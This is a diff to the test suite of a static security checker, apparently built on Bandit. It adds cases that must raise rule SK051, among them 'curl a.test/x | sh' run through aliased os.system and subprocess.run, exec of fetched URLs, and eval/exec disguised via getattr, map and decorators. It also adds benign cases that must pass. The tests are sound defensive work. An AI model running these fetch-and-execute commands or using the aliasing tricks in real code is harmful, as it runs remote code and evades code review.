@@ -71,6 +71,9 @@ def places(content):
         "exec(urllib.request.urlopen(url).read())",
         "code = base64.b64decode(DATA)\nexec(code)",
         'exec(zlib.decompress(base64.b64decode(b"eJw=")))',
+        'import os\ns = os.system\ns("curl a.test/x |" + " sh")',
+        'import subprocess\ns = print\ns = subprocess.run\nt = s\nt("curl a.test/x | sh", shell=True)',
+        "from os import sep as e\ne = exec\ne(urllib.request.urlopen(url).read())",
         "eval(compile(marshal.loads(data), '', 'exec'))",
     ],
 )
@@ -96,6 +99,10 @@ def test_code_that_runs_what_it_fetches_or_decodes_is_an_error_that_nobody_can_w
         'subprocess.run("make test", shell=True, check=True)',
         "model.eval()",
         "pattern.exec(text)",
+        "import subprocess\ndef f(run=subprocess.run): run(['ls'], check=True)",
+        "for eval in evals: print(eval.name)",
+        "import os\njoin = os.path.join\njoin(a, b)",
+        "model.eval\npattern.exec\nmode = 'eval'",
     ],
 )
 def test_honest_code_is_left_alone(honest):
@@ -139,6 +146,22 @@ def test_a_dangerous_call_is_an_error_that_names_the_test_and_what_to_do(code, t
     assert found == "SK051"
     assert f"(bandit {test}, severity " in problem.message
     assert "may waive this" in problem.fix
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os\nlist(map(os.system, lines))",
+        "[exec][0](text)",
+        "@exec\n@str\nclass A: pass",
+        "run = eval",
+        "exec.__call__(text)",
+        'start = getattr(__import__("os"), "system")',
+        "from os import popen as p\nrun(p)",
+    ],
+)
+def test_a_function_that_runs_a_text_is_dangerous_as_a_value(code):
+    assert "SK051" in codes(code)
 
 
 def test_a_shell_that_is_told_to_download_is_dangerous():
